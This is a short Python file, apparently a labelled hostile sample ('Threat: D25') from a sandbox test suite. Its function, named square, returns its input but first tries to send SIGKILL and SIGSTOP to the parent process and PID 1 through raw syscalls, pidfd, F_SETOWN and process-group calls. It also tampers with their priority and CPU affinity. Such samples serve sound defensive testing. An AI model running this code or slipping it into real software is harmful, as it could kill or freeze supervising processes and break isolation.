"""Sends signals that are not the usual ones: queued, by descriptors, by owners of files, by timers, by the terminal.

Threat: D25.
"""

import ctypes
import fcntl
import os
import signal

LIBC = ctypes.CDLL(None)


def square(x):
    sent = []
    for pid in (os.getppid(), 1, os.getppid() - 1):
        for call in (
            lambda: os.pidfd_open(pid),
            lambda: LIBC.syscall(129, pid, 9, ctypes.create_string_buffer(128)) + 1 or os.kill(-5, 99),
            lambda: LIBC.syscall(200, pid, 9) + 1 or os.kill(-5, 99),
            lambda: fcntl.fcntl(3, fcntl.F_SETOWN, pid),
            lambda: os.killpg(os.getpgid(pid), signal.SIGSTOP),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: os.sched_setaffinity(pid, {0}),
            lambda: LIBC.syscall(302, pid, 7, 0, ctypes.create_string_buffer(16)) + 1 or os.kill(-5, 99),
        ):
            try:
                call()
                sent.append(pid)
            except (OSError, AttributeError):
                pass
    fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    return x
